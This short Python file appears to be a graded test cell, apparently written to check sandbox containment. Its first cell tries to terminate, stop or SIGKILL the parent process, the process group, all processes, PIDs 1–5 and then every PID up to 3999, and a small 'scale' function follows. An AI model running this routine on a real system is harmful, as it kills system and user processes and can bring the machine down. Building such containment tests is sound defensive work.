# Signals every process it can name: its parents, its group, everything.
# points: 4

# %% first
import os
import signal

for target in (os.getppid(), 0, -1, 1, 2, 3, 4, 5, *range(-5, 0)):
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(target, number)
        except (OSError, OverflowError):
            pass
for target in set(range(2, 4000)) - {int(name) for name in os.listdir("/proc/self/task")}:
    try:
        os.kill(target, signal.SIGKILL)
        print("FOUND process", target)
    except OSError:
        pass

# %% scale
def scale(x, factor=2.0):
    return x * factor
